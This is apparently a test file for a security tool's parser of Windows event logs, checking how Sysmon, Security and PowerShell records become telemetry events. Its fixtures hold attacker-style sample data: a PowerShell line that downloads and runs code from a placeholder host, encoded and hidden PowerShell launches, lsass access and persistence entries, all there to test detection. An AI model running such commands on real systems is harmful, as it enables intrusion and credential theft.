/**
 * Windows event records into telemetry events: Sysmon, Security, PowerShell, System and Task Scheduler ids, each
 * read into its kind with the processes, accounts, files, peers and registry values it names.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventDraft } from '../../domain/event.js';
import { sniffFormat } from './index.js';
import { windowsFormat } from './windows.js';

const root = path.resolve(import.meta.dirname, '../../..');
const HOST = 'WS1.corp.example';
const DEVICE = 'device:ws1.corp.example';

function one(result: ReturnType<typeof windowsFormat.parse>): EventDraft {
  if (!('events' in result) || result.events?.length !== 1) throw new Error('expected one event');
  return result.events[0] as EventDraft;
}

/** An NXLog-shaped record (fields beside the envelope). */
function flat(channel: string, eventId: number, data: Record<string, string>, provider?: string) {
  return {
    SourceName:
      provider ??
      (channel.includes('Sysmon')
        ? 'Microsoft-Windows-Sysmon'
        : channel === 'Security'
          ? 'Microsoft-Windows-Security-Auditing'
          : 'Microsoft-Windows-PowerShell'),
    Channel: channel,
    Hostname: HOST,
    TimeCreated: '2024-03-01T10:00:00.000Z',
    EventID: eventId,
    ...data,
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const proc = {
  ProcessGuid: '{11111111-2222-3333-4444-555555555555}',
  ProcessId: '4242',
  Image: 'C:\\Tools\\a.exe',
  User: 'CORP\\alice',
};
const PROCESS = 'process:ws1.corp.example:11111111-2222-3333-4444-555555555555';
const HASHES =
  'SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=098F6BCD4621D373CADE4E832627B4F6,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08';
const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';

const windowsCases: [string, ReturnType<typeof flat>, Partial<EventDraft>][] = [
  [
    'Sysmon 1',
    flat(SYSMON, 1, {
      ...proc,
      CommandLine: 'a.exe -x',
      Hashes: HASHES,
      ParentProcessGuid: '{99999999-2222-3333-4444-555555555555}',
      ParentProcessId: '1',
    }),
    {
      kind: 'processStart',
      processKey: PROCESS,
      parentProcessKey: 'process:ws1.corp.example:99999999-2222-3333-4444-555555555555',
      commandLine: 'a.exe -x',
      sha256: SHA256,
      userKey: 'user:corp\\alice',
    },
  ],
  [
    'Sysmon 3',
    flat(SYSMON, 3, {
      ...proc,
      Protocol: 'tcp',
      SourceIp: '10.0.0.5',
      SourcePort: '50000',
      DestinationIp: '203.0.113.7',
      DestinationPort: '443',
      DestinationHostname: 'c2.example.net',
    }),
    {
      kind: 'networkConnection',
      dstIp: '203.0.113.7',
      dstPort: 443,
      srcPort: 50000,
      protocol: 'tcp',
      domain: 'c2.example.net',
    },
  ],
  ['Sysmon 5', flat(SYSMON, 5, proc), { kind: 'processEnd', processKey: PROCESS }],
  [
    'Sysmon 6',
    flat(SYSMON, 6, { ImageLoaded: 'C:\\Windows\\System32\\drivers\\x.sys', Hashes: HASHES }),
    { kind: 'driverLoad', targetPath: 'C:\\Windows\\System32\\drivers\\x.sys', sha256: SHA256 },
  ],
  [
    'Sysmon 7',
    flat(SYSMON, 7, { ...proc, ImageLoaded: 'C:\\x\\evil.dll', Hashes: HASHES }),
    { kind: 'imageLoad', targetPath: 'C:\\x\\evil.dll', sha256: SHA256, processKey: PROCESS },
  ],
  [
    'Sysmon 8',
    flat(SYSMON, 8, {
      SourceProcessGuid: proc.ProcessGuid,
      SourceProcessId: '4242',
      SourceImage: proc.Image,
      TargetProcessGuid: '{77777777-2222-3333-4444-555555555555}',
      TargetProcessId: '700',
      TargetImage: 'C:\\Windows\\explorer.exe',
    }),
    {
      kind: 'remoteThread',
      processKey: PROCESS,
      targetProcessKey: 'process:ws1.corp.example:77777777-2222-3333-4444-555555555555',
    },
  ],
  [
    'Sysmon 10',
    flat(SYSMON, 10, {
      SourceProcessGUID: proc.ProcessGuid,
      SourceProcessId: '4242',
      SourceImage: proc.Image,
      TargetProcessGUID: '{66666666-2222-3333-4444-555555555555}',
      TargetProcessId: '640',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1010',
      SourceUser: 'CORP\\alice',
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
    {
      kind: 'processAccess',
      processKey: PROCESS,
      targetPath: 'C:\\Windows\\system32\\lsass.exe',
      targetUserKey: 'user:nt authority\\system',
      userKey: 'user:corp\\alice',
    },
  ],
  [
    'Sysmon 11',
    flat(SYSMON, 11, { ...proc, TargetFilename: 'C:\\Users\\alice\\Downloads\\x.exe' }),
    { kind: 'fileCreate', targetPath: 'C:\\Users\\alice\\Downloads\\x.exe' },
  ],
  [
    'Sysmon 12',
    flat(SYSMON, 12, { ...proc, EventType: 'DeleteKey', TargetObject: 'HKLM\\SOFTWARE\\Evil' }),
    { kind: 'registryDelete' },
  ],
  [
    'Sysmon 13',
    flat(SYSMON, 13, {
      ...proc,
      EventType: 'SetValue',
      TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
      Details: 'C:\\x.exe',
    }),
    { kind: 'registrySet', registryValue: 'C:\\x.exe' },
  ],
  [
    'Sysmon 14',
    flat(SYSMON, 14, {
      ...proc,
      EventType: 'RenameKey',
      TargetObject: 'HKLM\\SOFTWARE\\A',
      NewName: 'HKLM\\SOFTWARE\\B',
    }),
    { kind: 'registryRename', registryValue: 'HKLM\\SOFTWARE\\B' },
  ],
  [
    'Sysmon 15',
    flat(SYSMON, 15, { ...proc, TargetFilename: 'C:\\x.exe:Zone.Identifier', Hash: HASHES }),
    { kind: 'fileStream', sha256: SHA256 },
  ],
  [
    'Sysmon 17',
    flat(SYSMON, 17, { ...proc, PipeName: '\\msagent_12' }),
    { kind: 'pipeCreate', targetPath: '\\msagent_12' },
  ],
  [
    'Sysmon 18',
    flat(SYSMON, 18, { ...proc, PipeName: '\\lsarpc' }),
    { kind: 'pipeConnect', targetPath: '\\lsarpc' },
  ],
  [
    'Sysmon 22',
    flat(SYSMON, 22, {
      ...proc,
      QueryName: 'c2.example.net',
      QueryResults: 'type:  5 cdn.example.net;::ffff:203.0.113.7;',
    }),
    { kind: 'dnsQuery', domain: 'c2.example.net' },
  ],
  [
    'Sysmon 23',
    flat(SYSMON, 23, { ...proc, TargetFilename: 'C:\\x.txt', Hashes: HASHES }),
    { kind: 'fileDelete', sha256: SHA256 },
  ],
  [
    'Sysmon 25',
    flat(SYSMON, 25, { ...proc, Type: 'Image is replaced' }),
    { kind: 'processTampering', processKey: PROCESS },
  ],
  [
    'Sysmon 26',
    flat(SYSMON, 26, { ...proc, TargetFilename: 'C:\\y.txt', Hashes: HASHES }),
    { kind: 'fileDelete', targetPath: 'C:\\y.txt' },
  ],
  [
    'Security 4624',
    flat('Security', 4624, {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'WS1$',
      SubjectDomainName: 'CORP',
      TargetUserSid: 'S-1-5-21-1-2-3-1104',
      TargetUserName: 'alice',
      TargetDomainName: 'CORP',
      LogonType: '3',
      IpAddress: '10.0.0.9',
      IpPort: '51000',
      ProcessId: '0x2b0',
      ProcessName: 'C:\\Windows\\System32\\lsass.exe',
    }),
    { kind: 'logon', userKey: 'user:corp\\alice', srcIp: '10.0.0.9', srcPort: 51000 },
  ],
  [
    'Security 4625',
    flat('Security', 4625, {
      TargetUserName: 'alice',
      TargetDomainName: 'CORP',
      IpAddress: '198.51.100.3',
      Status: '0xc000006d',
    }),
    { kind: 'logonFailed', outcome: 'failure', srcIp: '198.51.100.3' },
  ],
  [
    'Security 4648',
    flat('Security', 4648, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      TargetUserName: 'admin',
      TargetDomainName: 'CORP',
      TargetServerName: 'dc01.corp.example',
      IpAddress: '-',
    }),
    { kind: 'explicitCredentials', userKey: 'user:corp\\admin', domain: 'dc01.corp.example' },
  ],
  [
    'Security 4672',
    flat('Security', 4672, {
      SubjectUserSid: 'S-1-5-21-1-2-3-500',
      SubjectUserName: 'administrator',
      SubjectDomainName: 'CORP',
      PrivilegeList: 'SeDebugPrivilege',
    }),
    { kind: 'specialPrivileges', userKey: 'user:corp\\administrator' },
  ],
  [
    'Security 4688',
    flat('Security', 4688, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      NewProcessId: '0x1a2b',
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ProcessId: '0x10',
      CommandLine: 'cmd /c whoami',
    }),
    {
      kind: 'processStart',
      processKey: 'process:ws1.corp.example:6699@2024-03-01t10:00:00.000z',
      parentProcessKey: 'process:ws1.corp.example:16',
      commandLine: 'cmd /c whoami',
      imagePath: 'C:\\Windows\\System32\\cmd.exe',
    },
  ],
  [
    'Security 4697',
    flat('Security', 4697, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      ServiceName: 'evilsvc',
      ServiceFileName: 'C:\\x\\svc.exe',
    }),
    { kind: 'serviceInstall', targetPath: 'C:\\x\\svc.exe' },
  ],
  [
    'Security 4698',
    flat('Security', 4698, { SubjectUserName: 'alice', SubjectDomainName: 'CORP', TaskName: '\\Updater' }),
    { kind: 'taskCreate', targetPath: '\\Updater' },
  ],
  [
    'Security 4720',
    flat('Security', 4720, {
      SubjectUserName: 'admin',
      SubjectDomainName: 'CORP',
      TargetUserName: 'backdoor',
      TargetDomainName: 'CORP',
      TargetSid: 'S-1-5-21-1-2-3-1999',
    }),
    { kind: 'accountCreate', userKey: 'user:corp\\admin', targetUserKey: 'user:corp\\backdoor' },
  ],
  [
    'Security 4768',
    flat('Security', 4768, {
      TargetUserName: 'alice',
      TargetDomainName: 'CORP',
      IpAddress: '::ffff:10.0.0.9',
      Status: '0x0',
    }),
    { kind: 'kerberosTgt', outcome: 'success', srcIp: '10.0.0.9' },
  ],
  [
    'Security 4769',
    flat('Security', 4769, {
      TargetUserName: 'alice@CORP.EXAMPLE',
      ServiceName: 'cifs/fs01',
      IpAddress: '::ffff:10.0.0.9',
      Status: '0x0',
    }),
    { kind: 'kerberosService', targetPath: 'cifs/fs01' },
  ],
  [
    'Security 4776',
    flat('Security', 4776, { TargetUserName: 'alice', Workstation: 'WS1', Status: '0xc0000064' }),
    { kind: 'credentialValidation', outcome: 'failure' },
  ],
  [
    'Security 5140',
    flat('Security', 5140, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      IpAddress: '10.0.0.9',
      ShareName: '\\\\*\\C$',
    }),
    { kind: 'shareAccess', targetPath: '\\\\*\\C$' },
  ],
  [
    'Security 5145',
    flat('Security', 5145, {
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      IpAddress: '10.0.0.9',
      ShareName: '\\\\*\\ADMIN$',
      RelativeTargetName: 'x.exe',
    }),
    { kind: 'shareAccess', targetPath: '\\\\*\\ADMIN$\\x.exe' },
  ],
  [
    'Security 5156',
    flat('Security', 5156, {
      ProcessID: '4242',
      Application: '\\device\\harddiskvolume2\\tools\\a.exe',
      Direction: '%%14593',
      SourceAddress: '10.0.0.5',
      SourcePort: '50001',
      DestAddress: '203.0.113.7',
      DestPort: '8080',
      Protocol: '6',
    }),
    {
      kind: 'networkConnection',
      protocol: 'tcp',
      dstPort: 8080,
      processKey: 'process:ws1.corp.example:4242',
    },
  ],
  [
    'PowerShell 4103',
    flat('Microsoft-Windows-PowerShell/Operational', 4103, {
      ContextInfo:
        '        Host Application = powershell.exe -enc AAA\n        User = CORP\\alice\n        Script Name = \n',
      Payload: 'CommandInvocation(Invoke-Expression)',
    }),
    {
      kind: 'pipelineExecution',
      userKey: 'user:corp\\alice',
      imagePath: 'powershell.exe -enc AAA',
      commandLine: 'CommandInvocation(Invoke-Expression)',
    },
  ],
  [
    'PowerShell 4104',
    flat('Microsoft-Windows-PowerShell/Operational', 4104, {
      ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
      Path: 'C:\\x.ps1',
    }),
    { kind: 'scriptBlock', commandLine: 'IEX (New-Object Net.WebClient).DownloadString("http://x")' },
  ],
];

describe('Windows events', () => {
  it.each(windowsCases)('%s', (_, record, expected) => {
    expect(sniffFormat(record)?.id).toBe('windows');
    const draft = one(windowsFormat.parse(record));
    expect(draft).toMatchObject({
      format: 'windows',
      deviceKey: DEVICE,
      time: Date.parse('2024-03-01T10:00:00.000Z'),
      ...expected,
    });
    for (const key of [draft.deviceKey, draft.userKey, draft.processKey, draft.targetProcessKey])
      if (key) expect(draft.keys).toContain(key);
  });

  it('learns the account behind a SID, and the short name of an FQDN', () => {
    const draft = one(windowsFormat.parse(windowsCases.find(([name]) => name === 'Security 4624')![1]));
    expect(draft.aliases).toEqual(
      expect.arrayContaining([
        ['device:ws1', DEVICE],
        ['user:s-1-5-21-1-2-3-1104', 'user:corp\\alice'],
      ]),
    );
  });

  it('reads fields that only exist in the message (Windows PowerShell 800)', () => {
    const record = {
      SourceName: 'PowerShell',
      Channel: 'Windows PowerShell',
      Hostname: HOST,
      TimeCreated: '2024-03-01T10:00:00.000Z',
      EventID: 800,
      Message:
        'Pipeline execution details for command line: IEX x\r\n\r\nContext Information: \r\n\tUserId=CORP\\alice\r\n\tHostApplication=powershell.exe -nop -w hidden\r\n',
    };
    expect(one(windowsFormat.parse(record))).toMatchObject({
      kind: 'pipelineExecution',
      userKey: 'user:corp\\alice',
      commandLine: 'powershell.exe -nop -w hidden',
    });
  });

  it('gives the same event from NXLog, Winlogbeat and evtx_dump shapes of one real record', () => {
    const line = readFileSync(
      path.join(root, 'test/fixtures/events/otrf/lsass_campaign_01_sample.ndjson'),
      'utf8',
    ).split('\n')[0] as string;
    const nxlog = JSON.parse(line) as Record<string, unknown>;
    const envelope = new Set([
      'SourceName',
      'ProviderGuid',
      'Level',
      'Keywords',
      'Channel',
      'Hostname',
      'TimeCreated',
      '@timestamp',
      'EventID',
      'Message',
      'Task',
    ]);
    const data = Object.fromEntries(Object.entries(nxlog).filter(([key]) => !envelope.has(key)));
    const winlogbeat = {
      '@timestamp': nxlog['@timestamp'],
      event: { code: '1', kind: 'event' },
      host: { name: 'MKT01.pandalab.com' },
      winlog: {
        channel: nxlog.Channel,
        event_id: 1,
        provider_name: 'Microsoft-Windows-Sysmon',
        computer_name: 'MKT01.pandalab.com',
        event_data: data,
      },
    };
    const evtxDump = {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: 1,
          TimeCreated: { '#attributes': { SystemTime: nxlog.TimeCreated } },
          Channel: nxlog.Channel,
          Computer: 'MKT01.pandalab.com',
        },
        EventData: data,
      },
    };
    const drafts = [nxlog, winlogbeat, evtxDump].map((record) => {
      expect(sniffFormat(record)?.id).toBe('windows');
      return one(windowsFormat.parse(record));
    });
    expect(drafts[1]).toEqual(drafts[0]);
    expect(drafts[2]).toEqual(drafts[0]);
    expect(drafts[0]).toMatchObject({ kind: 'processStart', deviceKey: 'device:mkt01.pandalab.com' });
  });

  it('refuses a record without an event id or a time, naming the field', () => {
    expect(() => windowsFormat.parse({ Channel: 'Security', EventID: 'x', Hostname: HOST })).toThrow(
      /EventID/,
    );
    expect(() => windowsFormat.parse({ Channel: 'Security', EventID: 4624, Hostname: HOST })).toThrow(
      /TimeCreated/,
    );
  });
});
